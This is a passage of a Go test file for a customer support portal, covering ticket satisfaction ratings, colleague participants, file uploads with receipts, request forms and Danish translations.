	detail := c.get(page).body
	assert.Contains(t, detail, action)
	assert.Contains(t, detail, "How satisfied are you with how this was handled?")
	assert.Equal(t, 5, strings.Count(detail, `type="radio" name="rating"`), "the 1–5 scale")
	assert.Contains(t, detail, `value="5" required> 5 of 5</label>`)
	assert.NotContains(t, detail, "checked")

	res = c.post(page+"/rate", url.Values{"csrf": {c.csrf(page)}, "rating": {"9"}, "comment": {"Typed <here>"}})
	assert.Equal(t, http.StatusBadRequest, res.StatusCode)
	assert.Contains(t, res.body, "is not a value of the 1–5 scale")
	assert.Contains(t, res.body, ">Typed &lt;here&gt;</textarea>", "what was typed is kept")
	long := strings.Repeat("ø", portal.MaxRatingComment+1)
	res = c.post(page+"/rate", url.Values{"csrf": {c.csrf(page)}, "rating": {"2"}, "comment": {long}})
	assert.Equal(t, http.StatusBadRequest, res.StatusCode)
	assert.Contains(t, res.body, "Comment (optional)", "the field is named")
	assert.Contains(t, res.body, `value="2" required checked>`, "the choice is kept")
	assert.Contains(t, res.body, ">"+long+"</textarea>")

	res = c.post(page+"/rate", url.Values{"csrf": {c.csrf(page)}, "rating": {"4"}, "comment": {"Quick <help>"}})
	require.Equal(t, http.StatusSeeOther, res.StatusCode, res.body)
	assert.Equal(t, page+"?ok=rated", res.Header.Get("Location"))
	detail = c.get(res.Header.Get("Location")).body
	assert.Contains(t, detail, "Thank you for your rating.")
	assert.Contains(t, detail, "You rated it: <strong>4 of 5</strong> — <q>Quick &lt;help&gt;</q>")
	assert.Contains(t, detail, "You may change your rating.", "within the window")
	assert.Contains(t, detail, `value="4" required checked>`)
	assert.Contains(t, detail, ">Change rating</button>")

	// A colleague sees the rating, and cannot rate the closing again; what
	// was typed is shown with the refusal.
	bob := tp.client()
	bob.logIn(tp.login(1))
	theirs := bob.get(page).body
	assert.Contains(t, theirs, "A colleague rated it: <strong>4 of 5</strong>")
	assert.NotContains(t, theirs, action)
	res = bob.post(page+"/rate", url.Values{"csrf": {bob.csrf(page)}, "rating": {"1"}, "comment": {"Not for me"}})
	assert.Equal(t, http.StatusForbidden, res.StatusCode)
	assert.Contains(t, res.body, "could not be saved")
	assert.Contains(t, res.body, "Not for me")

	// A rating sent after the session ended comes back after the login
	// (X8).
	token := c.csrf(page)
	tp.clock.Add(tp.demo.data.Settings.IdleTimeout + time.Minute)
	res = c.post(page+"/rate", url.Values{"csrf": {token}, "rating": {"5"}, "comment": {"Even better"}})
	assert.Equal(t, http.StatusUnauthorized, res.StatusCode)
	form := url.Values{}
	for _, m := range regexp.MustCompile(`<input type="hidden" name="([^"]+)" value="([^"]*)">`).FindAllStringSubmatch(res.body, -1) {
		form.Set(m[1], html.UnescapeString(m[2]))
	}
	assert.Equal(t, []string{"Even better", "5"}, []string{form.Get("draft.comment"), form.Get("draft.rating")})
	form.Set("email", tp.login(0))
	form.Set("password", demoPassword)
	res = c.post("/login", form)
	require.Equal(t, http.StatusOK, res.StatusCode, res.body)
	assert.Contains(t, res.body, ">Even better</textarea>")
	assert.Contains(t, res.body, `value="5" required checked>`)

	// A week and a day later the rating is final.
	tp.clock.Add(8 * 24 * time.Hour)
	c.logIn(tp.login(0))
	detail = c.get(page).body
	assert.Contains(t, detail, "You rated it: <strong>4 of 5</strong>")
	assert.NotContains(t, detail, action)

	events, err := tp.p.Events(ctx, tp.demo.tenant(), 0, 100)
	require.NoError(t, err)
	require.NotEmpty(t, events)
	last := events[len(events)-1]
	assert.Equal(t, portal.EventRating, last.Kind, "the helpdesk receives the rating")
	assert.Equal(t, []string{"4", "Quick <help>"}, []string{last.Rating, last.RatingComment})

	s, err := tp.p.Settings(ctx, tp.demo.tenant())
	require.NoError(t, err)
	s.Language = "da"
	s.Satisfaction.Scale = portal.GoodBad
	s.Display.Columns = append(s.Display.Columns, portal.Column{Property: portal.PropSatisfaction, Label: "Bedømmelse"})
	_, err = tp.p.SaveSettings(ctx, tp.demo.tenant(), s)
	require.NoError(t, err)
	second := c.firstTicket("?view=organization&status=open")
	res = c.post("/tickets/"+second+"/close", url.Values{"csrf": {c.csrf("/tickets/" + second)}})
	require.Equal(t, http.StatusSeeOther, res.StatusCode, res.body)
	detail = c.get("/tickets/" + second).body
	assert.Contains(t, detail, "Hvor tilfreds er du med, hvordan sagen blev løst?")
	assert.Contains(t, detail, `value="good" required> God, jeg er tilfreds</label>`)
	res = c.post("/tickets/"+second+"/rate", url.Values{"csrf": {c.csrf("/tickets/" + second)}, "rating": {"good"}})
	require.Equal(t, http.StatusSeeOther, res.StatusCode, res.body)
	assert.Contains(t, c.get(res.Header.Get("Location")).body, "Tak for din bedømmelse.")
	list := c.get("/tickets?view=organization&sort=satisfaction").body
	assert.Contains(t, list, "<td>God, jeg er tilfreds</td>", "the rating column, in Danish")
	assert.Contains(t, list, "<td>4 af 5</td>", "a rating on the scale of its day")
	assert.Contains(t, list, `<option value="bad">Dårlig, jeg er ikke tilfreds</option>`, "the filter offers the scale in force")
	assert.NotContains(t, list, `<option value="4">`)
	filtered := c.get("/tickets?view=organization&f.satisfaction=good").body
	assert.Equal(t, []string{second}, ticketIDs(filtered), "the rating filter")
}

// covers: P12 — adding a colleague by e-mail on the ticket page: one answer
// for every address that is not a colleague's, the colleague's own list,
// leaving, Danish
func TestParticipants(t *testing.T) {
	tp, c := newLoggedIn(t)
	ctx := context.Background()
	bob := tp.client()
	bob.logIn(tp.login(1))
	var ticket string
	for _, id := range ticketIDs(c.get("/tickets?view=mine").body) {
		if !slices.Contains(ticketIDs(bob.get("/tickets?view=mine").body), id) {
			ticket = id
			break
		}
	}
	require.NotEmpty(t, ticket, "a ticket of Ann's that is not Bob's own")
	page := "/tickets/" + ticket
	detail := c.get(page).body
	assert.Contains(t, detail, `action="/tickets/`+ticket+`/participants"`)
	assert.Contains(t, detail, "Only the people the helpdesk added.")

	add := func(email string) response {
		return c.post(page+"/participants", url.Values{"csrf": {c.csrf(page)}, "email": {email}})
	}
	other, unknown := add(tp.login(2)), add("nobody@nordlys.example")
	for _, res := range []response{other, unknown} {
		assert.Equal(t, http.StatusBadRequest, res.StatusCode)
		assert.Contains(t, res.body, "is not the address of a colleague at your company who can be added")
	}
	assert.Contains(t, other.body, `value="`+tp.login(2)+`"`, "what was typed is kept")
	strip := func(body, email string) string {
		return csrfPattern.ReplaceAllString(strings.ReplaceAll(body, email, "x"), "")
	}
	assert.Equal(t, strip(other.body, tp.login(2)), strip(unknown.body, "nobody@nordlys.example"),
		"another company's contact and an unknown address get the same page")
	res := add(tp.login(0))
	assert.Equal(t, http.StatusBadRequest, res.StatusCode, "oneself")

	res = add(tp.login(1))
	require.Equal(t, http.StatusSeeOther, res.StatusCode, res.body)
	detail = c.get(res.Header.Get("Location")).body
	assert.Contains(t, detail, "Added. Your colleague can now see and answer it.")
	assert.Contains(t, detail, "<strong>"+html.EscapeString(tp.demo.logins[1].Name)+"</strong>")
	assert.Contains(t, detail, "added by you")
	assert.Contains(t, detail, ">Remove</button>")
	assert.Equal(t, http.StatusBadRequest, add(tp.login(1)).StatusCode, "a duplicate")
	assert.Contains(t, ticketIDs(bob.get("/tickets?view=mine").body), ticket, "the colleague's own now")

	// Bob leaves; the page is still his company's to see.
	theirs := bob.get(page).body
	assert.Contains(t, theirs, ">Leave</button>")
	res = bob.post(page+"/participants/"+tp.demo.data.Contacts[1].ID.String()+"/remove", url.Values{"csrf": {bob.csrf(page)}})
	require.Equal(t, http.StatusSeeOther, res.StatusCode, res.body)
	assert.NotContains(t, ticketIDs(bob.get("/tickets?view=mine").body), ticket)

	events, err := tp.p.Events(ctx, tp.demo.tenant(), 0, 100)
	require.NoError(t, err)
	var kinds []portal.EventKind
	for _, e := range events {
		kinds = append(kinds, e.Kind)
	}
	assert.Equal(t, []portal.EventKind{portal.EventParticipantAdded, portal.EventParticipantRemoved}, kinds)

	s, err := tp.p.Settings(ctx, tp.demo.tenant())
	require.NoError(t, err)
	s.Language = "da"
	_, err = tp.p.SaveSettings(ctx, tp.demo.tenant(), s)
	require.NoError(t, err)
	detail = c.get(page).body
	assert.Contains(t, detail, "Personer på sagen")
	assert.Contains(t, detail, "Kollegas e-mail")
}

// postMultipart posts fields and files (under "files") to path.
func (c *client) postMultipart(path string, fields map[string]string, files map[string][]byte) response {
	c.t.Helper()
	var buf bytes.Buffer
	mw := multipart.NewWriter(&buf)
	for name, v := range fields {
		require.NoError(c.t, mw.WriteField(name, v))
	}
	for name, content := range files {
		fw, err := mw.CreateFormFile("files", name)
		require.NoError(c.t, err)
		_, err = fw.Write(content)
		require.NoError(c.t, err)
	}
	require.NoError(c.t, mw.Close())
	req, err := http.NewRequest(http.MethodPost, c.tp.URL+path, &buf)
	require.NoError(c.t, err)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	return c.do(req)
}

// covers: P15 — files on the support form, and the receipt mailed with
// the new ticket's number, once however often the form is sent
func TestSubmitWithFilesAndReceipt(t *testing.T) {
	tp, c := newLoggedIn(t)
	ctx := context.Background()
	form := c.get("/new").body
	assert.Contains(t, form, `enctype="multipart/form-data"`)
	assert.Contains(t, form, `type="file" name="files"`)
	assert.Contains(t, form, "We mail you a receipt with its number.")
	key := regexp.MustCompile(`name="key" value="([^"]+)"`).FindStringSubmatch(form)[1]
	fields := map[string]string{"csrf": c.csrf("/new"), "key": key, "subject": "Kværnen larmer", "content": "Se billedet."}

	res := c.postMultipart("/new", fields, map[string][]byte{"setup.exe": pngBytes})
	assert.Equal(t, http.StatusBadRequest, res.StatusCode, "a program is refused")
	assert.Contains(t, res.body, "setup.exe")
	assert.Contains(t, res.body, "Kværnen larmer", "what was typed is kept")
	assert.Contains(t, res.body, "choose them again before you send")

	first := c.postMultipart("/new", fields, map[string][]byte{"billede.png": pngBytes})
	require.Equal(t, http.StatusSeeOther, first.StatusCode, first.body)
	again := c.postMultipart("/new", fields, map[string][]byte{"billede.png": pngBytes})
	assert.Equal(t, first.Header.Get("Location"), again.Header.Get("Location"), "sent twice, one ticket")
	detail := c.get(first.Header.Get("Location")).body
	assert.Contains(t, detail, ">billede.png</a>", "the file is on the ticket's first message")
	ref := regexp.MustCompile(`<span class="ref">(#[0-9]+)</span>`).FindStringSubmatch(detail)[1]

	n, err := tp.p.DeliverMail(ctx, tp.demo.tenant())
	require.NoError(t, err)
	assert.Equal(t, 1, n, "one receipt")
	m, ok := tp.mail.Last(tp.login(0))
	require.True(t, ok)
	assert.Equal(t, portal.MailReceipt, m.Kind)
	assert.Equal(t, "We have received your request "+ref+": Kværnen larmer", m.Subject)
}

// covers: P15 — a form picker when the visitor may use several forms; a
// request form's own page and destination; one not for the visitor is
// not found
func TestRequestForms(t *testing.T) {
	tp := newTestPortal(t)
	ctx := context.Background()
	rf := tp.addRequestForm(t)
	c := tp.client()
	c.logIn(tp.login(0))
	pick := c.get("/new")
	require.Equal(t, http.StatusOK, pick.StatusCode)
	assert.Contains(t, pick.body, "What can we help you with?")
	assert.Contains(t, pick.body, `href="/new?form=main"`)
	assert.Contains(t, pick.body, `href="/new?form=`+rf.ID.String()+`"`)
	assert.Contains(t, pick.body, "Send back what you bought within 30 days.")

	page := "/new?form=" + rf.ID.String()
	form := c.get(page).body
	assert.Contains(t, form, "<h1>Return a product</h1>")
	assert.Contains(t, form, `name="form.id" value="`+rf.ID.String()+`"`)
	key := regexp.MustCompile(`name="key" value="([^"]+)"`).FindStringSubmatch(form)[1]
	res := c.post("/new", url.Values{"csrf": {c.csrf(page)}, "key": {key}, "form.id": {rf.ID.String()},
		"subject": {"Returnering"}, "content": {"Den passer ikke."}})
	require.Equal(t, http.StatusSeeOther, res.StatusCode, res.body)
	id, err := uuid.Parse(strings.TrimSuffix(strings.TrimPrefix(res.Header.Get("Location"), "/tickets/"), "?ok=submitted"))
	require.NoError(t, err)
	tk, err := tp.p.Ticket(ctx, tp.demo.tenant(), id)
	require.NoError(t, err)
	assert.Equal(t, tp.demo.data.Pipelines[1].ID, tk.PipelineID, "the request form's pipeline")
	assert.Contains(t, c.get("/new?form=main").body, "<h1>Submit a support ticket</h1>")
	assert.Equal(t, http.StatusNotFound, c.get("/new?form=nonsense").StatusCode)

	// Sent after the session ended, the request form comes back with what
	// was typed, after the login (X8).
	token := c.csrf(page)
	tp.clock.Add(tp.demo.data.Settings.IdleTimeout + time.Minute)
	res = c.post("/new", url.Values{"csrf": {token}, "key": {"late"}, "form.id": {rf.ID.String()},
		"subject": {"Sent too late"}, "content": {"Still here?"}})
	assert.Equal(t, http.StatusUnauthorized, res.StatusCode)
	login := url.Values{}
	for _, m := range regexp.MustCompile(`<input type="hidden" name="([^"]+)" value="([^"]*)">`).FindAllStringSubmatch(res.body, -1) {
		login.Set(m[1], html.UnescapeString(m[2]))
	}
	assert.Equal(t, rf.ID.String(), login.Get("draft.form.id"))
	login.Set("email", tp.login(0))
	login.Set("password", demoPassword)
	res = c.post("/login", login)
	require.Equal(t, http.StatusOK, res.StatusCode, res.body)
	assert.Contains(t, res.body, "<h1>Return a product</h1>")
	assert.Contains(t, res.body, `value="Sent too late"`)
	assert.Contains(t, res.body, `name="form.id" value="`+rf.ID.String()+`"`)

	// Another company's contact has the main form alone: no picker, and
	// the request form is not found.
	other := tp.client()
	other.logIn(tp.login(2))
	assert.Contains(t, other.get("/new").body, "<h1>Submit a support ticket</h1>")
	assert.Equal(t, http.StatusNotFound, other.get(page).StatusCode)
	res = other.post("/new", url.Values{"csrf": {other.csrf("/new")}, "key": {"k"}, "form.id": {rf.ID.String()},
		"subject": {"Typed for a form not mine"}, "content": {"y"}})
	assert.Equal(t, http.StatusNotFound, res.StatusCode, "nothing is submitted")
	assert.Contains(t, res.body, "is not there for you any more")
	assert.Contains(t, res.body, `value="Typed for a form not mine"`, "what was typed is in the main form")
	assert.NotContains(t, res.body, `name="form.id"`)

	s, err := tp.p.Settings(ctx, tp.demo.tenant())
	require.NoError(t, err)
	s.Language = "da"
	_, err = tp.p.SaveSettings(ctx, tp.demo.tenant(), s)
	require.NoError(t, err)
	assert.Contains(t, c.get("/new").body, "Hvad kan vi hjælpe med?")
}
